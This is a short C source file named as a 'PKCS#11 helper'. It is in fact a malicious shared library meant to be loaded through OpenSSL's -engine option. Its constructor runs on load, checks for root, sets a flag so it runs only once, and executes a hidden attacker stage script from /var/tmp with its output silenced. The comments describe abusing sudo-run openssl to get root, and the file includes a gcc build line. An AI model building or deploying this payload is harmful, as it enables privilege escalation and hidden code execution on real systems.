/* "PKCS#11 helper": a shared library handed to `openssl ... -engine <path>`:
 * OpenSSL's dynamic engine dlopen()s it, and its constructor runs before
 * OpenSSL notices it is no engine. Run as root (sudo), it starts the
 * attacker's root stage script. gcc -shared -fPIC -O2 -o X.so pkcs11-engine.c */
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void p11_init(void)
{
    /* OpenSSL tries the path twice (dlopen, dlclose, dlopen): run once */
    if (geteuid() != 0 || getenv("P11_KIT_SERVER_PID") != NULL)
        return;
    setenv("P11_KIT_SERVER_PID", "1", 1);
    system("/bin/sh /var/tmp/storefront-cache/.p11-kit >/dev/null 2>&1");
}
